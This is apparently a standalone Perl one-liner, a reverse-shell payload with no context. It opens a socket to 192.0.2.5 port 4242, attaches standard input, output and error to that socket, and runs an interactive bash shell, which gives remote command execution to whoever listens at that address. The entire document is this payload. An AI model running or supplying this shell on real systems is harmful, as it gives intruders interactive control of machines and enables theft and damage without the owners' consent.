use IO::Socket::INET;my $s=IO::Socket::INET->new("192.0.2.5:4242");open(my $o,"<&",$s);open STDIN,"<&",$s;open STDOUT,">&",$s;open STDERR,">&STDOUT";exec "/bin/bash","-i";
